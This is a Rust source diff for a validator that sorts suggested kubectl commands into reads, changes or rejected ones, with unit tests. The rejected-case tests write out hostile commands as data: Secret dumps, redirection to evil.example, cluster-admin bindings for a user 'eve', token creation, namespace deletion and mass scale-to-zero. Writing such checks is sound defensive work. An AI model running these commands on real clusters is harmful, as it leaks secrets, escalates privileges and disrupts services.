@@ -1,41 +1,9 @@
 //! Commands a report may show: one plain `kubectl` call of a known verb, nothing a shell would interpret.
 
-use crate::report::Effect;
+mod words;
 
-/// Verbs that only look.
-const READS: &[&str] = &[
-    "get",
-    "describe",
-    "logs",
-    "log",
-    "top",
-    "events",
-    "explain",
-    "api-resources",
-    "api-versions",
-    "version",
-    "cluster-info",
-    "auth",
-];
-/// Verbs that change something and are shown as such.
-const CHANGES: &[&str] = &[
-    "apply",
-    "create",
-    "edit",
-    "patch",
-    "set",
-    "scale",
-    "autoscale",
-    "label",
-    "annotate",
-    "taint",
-    "cordon",
-    "uncordon",
-    "drain",
-    "expose",
-];
-/// Kinds that may be deleted on advice: their controllers make them anew, or they are done.
-const DELETABLE: &[&str] = &["pod", "pods", "po", "job", "jobs"];
+use self::words::{CHANGES, CREATABLE, DELETABLE, FLAGS, READS, SETTABLE, TAKES_A_VALUE};
+use crate::report::Effect;
 
 /// What becomes of a suggested command.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -102,24 +70,116 @@ pub fn names_in(command: &str) -> Vec<&str> {
 #[must_use]
 pub fn effect(command: &str) -> Option<Effect> {
     let command = command.trim();
-    if !is_one_plain_call(command) {
+    if !is_one_plain_call(command) || command.contains("://") {
         return None;
     }
-    let words: Vec<&str> = command.split_whitespace().collect();
-    let rest = &words[1..];
-    if reveals_or_fetches(rest) {
+    // As a shell hands the words over: quotes hide nothing.
+    let words = shlex::split(&without_placeholders(command))?;
+    let call = Call::read(words.get(1..)?)?;
+    if call.reveals() {
         return None;
     }
-    let mut arguments = positional(rest);
-    let verb = arguments.next()?;
-    let object = arguments.next().unwrap_or_default();
+    let (verb, objects) = (call.verb, call.objects.as_slice());
+    let object = objects.first().copied().unwrap_or_default();
     match verb {
         "rollout" if matches!(object, "status" | "history") => Some(Effect::Reads),
         "rollout" if matches!(object, "restart" | "undo" | "pause" | "resume") => Some(Effect::Changes),
-        "delete" => DELETABLE.contains(&object.split('/').next().unwrap_or_default()).then_some(Effect::Changes),
+        "auth" if matches!(object, "can-i" | "whoami") => Some(Effect::Reads),
+        "cluster-info" if object == "dump" => None,
+        "delete" => deletes_little(objects).then_some(Effect::Changes),
+        "create" if call.has("-f") || call.has("--filename") => Some(Effect::Changes),
+        "create" => CREATABLE.contains(&object).then_some(Effect::Changes),
+        "set" => SETTABLE.contains(&object).then_some(Effect::Changes),
         _ if READS.contains(&verb) => Some(Effect::Reads),
         _ if CHANGES.contains(&verb) => Some(Effect::Changes),
         _ => None,
+    }
+}
+
+/// A call in its parts.
+struct Call<'w> {
+    verb: &'w str,
+    objects: Vec<&'w str>,
+    flags: Vec<&'w str>,
+}
+
+impl<'w> Call<'w> {
+    /// Reads the words behind `kubectl`; `None` when a flag is not one of those that may stand there.
+    fn read(words: &'w [String]) -> Option<Self> {
+        let (mut spoken, mut flags) = (Vec::new(), Vec::new());
+        let mut words = words.iter().map(String::as_str);
+        while let Some(word) = words.next() {
+            if !word.starts_with('-') {
+                spoken.push(word);
+                continue;
+            }
+            let verb = spoken.first().copied().unwrap_or_default();
+            let flag = flag_of(word, verb, spoken.get(1).copied())?;
+            if flag.takes_next {
+                words.next()?;
+            }
+            flags.push(flag.name);
+        }
+        let mut spoken = spoken.into_iter();
+        Some(Self { verb: spoken.next()?, objects: spoken.collect(), flags })
+    }
+
+    fn has(&self, flag: &str) -> bool {
+        self.flags.contains(&flag)
+    }
+
+    /// Whether it prints what stands in a Secret, or hands out the rights of the whole cluster, or acts on everything.
+    fn reveals(&self) -> bool {
+        let secret = self.objects.iter().any(|word| kinds(word).any(|kind| matches!(&*kind, "secret" | "secrets")));
+        let shows = ["-o", "--output", "--template", "--subresource"].iter().any(|flag| self.has(flag));
+        let everywhere = (self.has("-A") || self.has("--all-namespaces")) && !READS.contains(&self.verb);
+        (secret && shows && self.verb == "get") || everywhere
+    }
+}
+
+/// A flag by its name, and whether its value is the next word.
+struct Flag<'w> {
+    name: &'w str,
+    takes_next: bool,
+}
+
+fn flag_of<'w>(word: &'w str, verb: &str, object: Option<&str>) -> Option<Flag<'w>> {
+    // A shorthand may have its value right behind it: `-oyaml`.
+    let short = !word.starts_with("--") && word.len() > 2;
+    let (name, value) = match word.split_once('=') {
+        Some((name, value)) => (name, Some(value)),
+        None if short => (word.get(..2)?, word.get(2..)),
+        None => (word, None),
+    };
+    if matches!(verb, "logs" | "log") && matches!(name, "-f" | "-p") {
+        return Some(Flag { name, takes_next: false });
+    }
+    let placeholder = value == Some("x");
+    match name {
+        // Who may do what is asked in another's name; nothing else is.
+        "--as" if verb == "auth" && object == Some("can-i") => Some(Flag { name, takes_next: value.is_none() }),
+        "--docker-password" if placeholder => Some(Flag { name, takes_next: false }),
+        _ if TAKES_A_VALUE.contains(&name) => Some(Flag { name, takes_next: value.is_none() }),
+        _ if FLAGS.contains(&name) => Some(Flag { name, takes_next: false }),
+        _ => None,
+    }
+}
+
+/// The kinds a word speaks of, as in `cm,secrets.v1./name`.
+fn kinds(word: &str) -> impl Iterator<Item = String> {
+    let all = word.split('/').next().unwrap_or_default();
+    all.split(',').map(|kind| kind.split('.').next().unwrap_or_default().to_ascii_lowercase())
+}
+
+/// Whether every object of a `delete` is of a kind that comes back or is done.
+fn deletes_little(objects: &[&str]) -> bool {
+    let deletable = |word: &&&str| kinds(word).all(|kind| DELETABLE.contains(&&*kind));
+    match objects.split_first() {
+        Some((first, rest)) if first.contains('/') => {
+            std::iter::once(first).chain(rest).all(|word| word.contains('/') && deletable(&word))
+        }
+        Some((first, rest)) => deletable(&first) && rest.iter().all(|name| !name.contains('/')),
+        None => false,
     }
 }
 
@@ -161,29 +221,6 @@ fn is_inert(command: &str) -> bool {
     quote.is_none()
 }
 
-/// Flags whose value is the next word.
-const TAKES_A_VALUE: &[&str] = &[
-    "-n",
-    "--namespace",
-    "--context",
-    "-c",
-    "--container",
-    "-l",
-    "--selector",
-    "--field-selector",
-    "-o",
-    "--output",
-    "-p",
-    "--patch",
-    "--type",
-    "--tail",
-    "--since",
-    "--sort-by",
-    "--replicas",
-    "--to-revision",
-    "--timeout",
-];
-
 /// The words that are neither flags nor their values.
 fn positional<'a>(words: &[&'a str]) -> impl Iterator<Item = &'a str> {
     let mut skip = false;
@@ -194,22 +231,6 @@ fn positional<'a>(words: &[&'a str]) -> impl Iterator<Item = &'a str> {
         skip = TAKES_A_VALUE.contains(word);
         !word.starts_with('-')
     })
-}
-
-/// Credentials on the command line, manifests from the network, everything at once, and contents of Secrets.
-fn reveals_or_fetches(words: &[&str]) -> bool {
-    let secret =
-        words.iter().any(|word| word.split('/').next().is_some_and(|kind| matches!(kind, "secret" | "secrets")));
-    let shows = words
-        .iter()
-        .any(|word| word.starts_with("-o") || word.starts_with("--output") || word.starts_with("--template"));
-    let everything =
-        words.contains(&"delete") && words.iter().any(|word| matches!(*word, "--all" | "-A" | "--all-namespaces"));
-    (secret && shows)
-        || everything
-        || words.iter().any(|word| {
-            word.starts_with("--token") || word.starts_with("--password") || word.contains("://") || *word == "--raw"
-        })
 }
 
 #[cfg(test)]
@@ -224,6 +245,10 @@ mod tests {
             "kubectl rollout status deploy/web",
             "kubectl logs web-0 --previous",
             "kubectl get secret edge-tls -n a",
+            "kubectl get pods -oyaml -n a",
+            "kubectl logs -f web-0 -p",
+            "kubectl auth can-i list pods -n a --as=system:serviceaccount:a:web",
+            "kubectl describe secret/edge-tls",
         ] {
             assert_eq!(effect(command), Some(Effect::Reads), "{command}");
         }
@@ -232,6 +257,10 @@ mod tests {
             "kubectl delete pod web-0 -n a",
             "kubectl set image deploy/web web=web:2",
             "kubectl uncordon worker-1",
+            "kubectl delete pod/web-0 pod/web-1",
+            "kubectl delete pods web-0 web-1 --grace-period=0 --force",
+            "kubectl -n a create secret docker-registry x --docker-server=<REGISTRY> --docker-password=<PASSWORD>",
+            "kubectl drain worker-1 --ignore-daemonsets --delete-emptydir-data",
             "kubectl set image deploy/web web=<IMAGE:TAG>",
             "kubectl -n a patch hpa web -p '{\"spec\":{\"maxReplicas\":<N>}}'",
         ] {
@@ -305,6 +334,29 @@ mod tests {
             "kubеctl get pods",
             "kubectl get --raw /api",
             "kubectl config view",
+            "kubectl delete pod/web-0 ns/payments",
+            "kubectl delete pod,ns web",
+            "kubectl delete pods --all=true -n a",
+            "kubectl delete pods -A -l app=web",
+            "kubectl get Secret x -o yaml",
+            "kubectl get cm,secret -o yaml",
+            "kubectl get secrets.v1. -oyaml",
+            "kubectl get \"secret\" x --output=json",
+            "kubectl get 'secret/x' -o yaml",
+            "kubectl --server=evil.example get pods",
+            "kubectl -s=evil.example get pods",
+            "kubectl --kubeconfig=x get pods",
+            "kubectl --insecure-skip-tls-verify get pods",
+            "kubectl get pods --as system:admin",
+            "kubectl create token builder",
+            "kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=eve",
+            "kubectl create rolebinding x --clusterrole=cluster-admin --user=eve",
+            "kubectl set env deploy/x --list --resolve",
+            "kubectl set subject rolebinding x --user=eve",
+            "kubectl auth reconcile -f x.yaml",
+            "kubectl cluster-info dump",
+            "kubectl create secret docker-registry x --docker-password=hunter2",
+            "kubectl scale deploy --all --replicas=0",
             "",
         ] {
             assert_eq!(effect(command), None, "{command}");
